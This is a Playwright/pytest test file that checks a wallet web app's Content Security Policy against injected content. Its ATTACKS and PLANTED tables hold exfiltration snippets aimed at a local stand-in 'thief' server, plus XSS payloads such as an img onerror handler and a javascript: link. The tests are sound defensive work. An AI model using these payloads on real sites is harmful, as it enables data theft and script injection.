"""The browser itself refuses what an attacker who got a tag into a page would do next; our own pages break no rule."""

from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest
from playwright.sync_api import Browser, Page

from tests.e2e.conftest import Person
from tests.e2e.stack import Stack
from wallet_app.paths import PRIVATE_PAGES

#: Keeps every breach of the policy where a test can read it.
LISTEN = """
    window.breaches = [];
    document.addEventListener("securitypolicyviolation", e => window.breaches.push(
        e.effectiveDirective + " " + e.blockedURI));
"""

#: What would take something out of the page, or bring something in.
ATTACKS = {
    "script-src-elem": "const s = document.createElement('script'); s.src = URL + '/x.js'; document.body.append(s);",
    "img-src": "new Image().src = URL + '/?stolen=' + document.title;",
    "connect-src": "fetch(URL + '/?stolen').catch(() => 0);",
    "style-src-elem": "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = URL + '/x.css';"
    "document.head.append(l);",
    "frame-src": "const f = document.createElement('iframe'); f.src = URL; document.body.append(f);",
    "form-action": "const f = document.createElement('form'); f.action = URL; document.body.append(f); f.submit();",
    "base-uri": "const b = document.createElement('base'); b.href = URL; document.head.append(b);",
    "object-src": "const o = document.createElement('object'); o.data = URL; document.body.append(o);",
}

#: What a name or a note would do that came into a page as markup; each would leave ``window.planted``.
PLANTED = {
    "a script": "const s = document.createElement('script'); s.textContent = 'planted = 1'; document.body.append(s);",
    "an attribute": "document.body.insertAdjacentHTML('beforeend', '<img src=/x onerror=\"planted = 1\">');",
    "a link": "const a = document.createElement('a'); a.href = 'javascript:planted = 1'; document.body.append(a);"
    "a.click();",
}

PAGES = (*sorted(PRIVATE_PAGES), "/there-is-no-such-page")


class Thief:
    """A server of somebody else's, that notes who came."""

    def __init__(self) -> None:
        visits = self.visits = list[str]()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                visits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815 - as the library names it

            def log_message(self, format: str, *args: object) -> None:
                """Nothing: the visits are kept."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def thief() -> Iterator[Thief]:
    made = Thief()
    yield made
    made.close()


@pytest.mark.parametrize("directive", ATTACKS)
def test_what_a_planted_tag_would_do_is_refused(page: Page, thief: Thief, directive: str) -> None:
    page.add_init_script(LISTEN)
    page.goto("/signin")
    page.evaluate(f"() => {{ const URL = '{thief.url}'; {ATTACKS[directive]} }}")
    page.wait_for_function("d => window.breaches.some(b => b.startsWith(d + ' '))", arg=directive)
    assert thief.visits == []


@pytest.mark.parametrize("way", PLANTED)
def test_what_is_planted_does_not_run(page: Page, way: str) -> None:
    page.add_init_script(LISTEN)
    page.goto("/signin")
    page.evaluate(f"() => {{ {PLANTED[way]} }}")
    page.wait_for_function("() => window.breaches.length > 0")
    assert page.evaluate("() => window.planted === undefined")


@pytest.mark.parametrize("locale", ["en-IN", "hi-IN"])
def test_our_own_pages_break_no_rule(
    stack: Stack, browser: Browser, alice: Person, fund: Callable[[Person, int], str], locale: str
) -> None:
    receipt = f"/transactions/{fund(alice, 5_00)}"
    context = browser.new_context(base_url=stack.app_url, locale=locale)
    name, _, token = alice.cookie.partition("=")
    context.add_cookies([{"name": name, "value": token, "url": stack.app_url}])
    context.add_init_script(LISTEN)
    page = context.new_page()
    for path in (*PAGES, receipt):
        page.goto(path)
        page.wait_for_load_state("networkidle")
        # Once more, as the browser kept it: "not modified" brings the policy, too.
        page.reload()
        page.wait_for_load_state("networkidle")
        assert page.evaluate("() => window.breaches") == [], path
        assert page.locator("html").get_attribute("lang") == locale
    context.close()


@pytest.mark.parametrize("path", ["/signin", "/signup"])
def test_the_pages_in_front_of_the_door_break_no_rule(page: Page, path: str) -> None:
    page.add_init_script(LISTEN)
    page.goto(path)
    page.wait_for_load_state("networkidle")
    assert page.evaluate("() => window.breaches") == []
